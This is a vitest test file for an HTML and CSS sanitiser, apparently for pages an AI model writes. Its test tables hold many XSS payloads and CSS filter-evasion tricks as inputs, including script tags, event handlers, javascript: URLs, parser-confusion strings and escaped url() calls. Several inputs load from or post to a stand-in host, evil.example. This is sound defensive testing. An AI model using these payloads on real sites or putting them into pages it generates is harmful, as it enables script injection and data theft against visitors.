import { describe, expect, it } from "vitest";
import { sanitisePage, textOf } from "./sanitise-page.ts";
import { scrubCss } from "./scrub-css.ts";

const bodyOf = (html: string): string => sanitisePage(html).body;

describe("a model's page", () => {
  it("keeps words, structure, its own pictures and its style", () => {
    const page = sanitisePage(
      'Sure!\n```html\n<style>h1 > b{color:#c40}</style><main class="a"><h1 id="top">Frog</h1><img src="logo" alt="A frog"><svg viewBox="0 0 9 9"><circle cx="4" cy="4" r="3" fill="#0a0"/></svg><a href="#launch">Buy</a></main>\n```',
    );
    expect(page.css).toBe("h1 > b{color:#c40}");
    expect(page.body).toContain('<main class="a"><h1 id="top">Frog</h1><img src="logo" alt="A frog"');
    expect(page.body).toContain('viewbox="0 0 9 9"');
    expect(page.body).toContain('<a href="#launch">Buy</a>');
  });

  it.each([
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/x.png">',
    '<img src="logo" srcset="https://evil.example/x.png 2x">',
    '<a href="https://evil.example">x</a>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="//evil.example">x</a>',
    '<form action="https://evil.example"><input name="seed"><button>Go</button></form>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example"></object>',
    '<svg onload="alert(1)"><use href="https://evil.example#x"/></svg>',
    '<svg><image href="https://evil.example/x.png"/></svg>',
    '<svg><foreignObject><body onload="alert(1)"></foreignObject></svg>',
    '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>',
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<p style="background:u\\72l(//evil.example)">x</p>',
    '<circle fill="url(https://evil.example#x)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example"><link rel="stylesheet" href="https://evil.example/x.css">',
    "</template><script>alert(1)</script>",
    '<template shadowrootmode="open"><script>alert(1)</script></template>',
    '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<p>Claim it at evil.example today.</p>",
    '<p title="see https://evil.example">x</p>',
  ])("keeps nothing of %s", (html) => {
    const { css, body } = sanitisePage(`<p>before</p>${html}<p>after</p>`);
    expect(css + body).not.toMatch(
      /evil|alert|onerror|javascript|<(?:script|iframe|form|input|template|meta|base|link|object|image|use)\b|url\(/i,
    );
  });

  it("is read as visitors read it, words that are cut up by tags together", () => {
    expect(textOf(sanitisePage("<p>evil.<b>exa</b>mple</p><p>A &amp; B</p>"))).toBe("evil.example\nA & B");
    expect(bodyOf("no page at all")).toBe("");
  });
});

describe("a model's style sheet", () => {
  it.each([
    "@import 'https://evil.example/x.css';",
    "@import url(//evil.example);",
    "@font-face{font-family:x;src:url(https://evil.example/f)}",
    "p{background:url('https://evil.example')}",
    "p{background:u\\72 l(https://evil.example)}",
    "p{background:ur/**/l(https://evil.example)}",
    "p{background:uurl(x)rl(https://evil.example)}",
    "p{background:image-set('https://evil.example' 1x)}",
    "p{color:red !important}",
    "p{color:red ! important}",
    ":host{display:none}",
    "</style><script>alert(1)</script>",
    "p{behavior:url(#x);-moz-binding:url(x)}",
    "p{width:expression(alert(1))}",
  ])("keeps nothing that reaches out or outweighs ours: %s", (css) => {
    expect(scrubCss(css)).not.toMatch(
      /evil|url\s*\(|import|important|:host|<|font-face|image-set|expression|binding|behavior/i,
    );
  });

  it("keeps what dresses the page", () => {
    const css =
      '@media (min-width:600px){h1>a:hover{color:#c40;transform:rotate(3deg)}} q::before{content:"\\201C"}';
    expect(scrubCss(css)).toBe(
      '@media (min-width:600px){h1>a:hover{color:#c40;transform:rotate(3deg)}} q::before{content:"“"}',
    );
  });
});
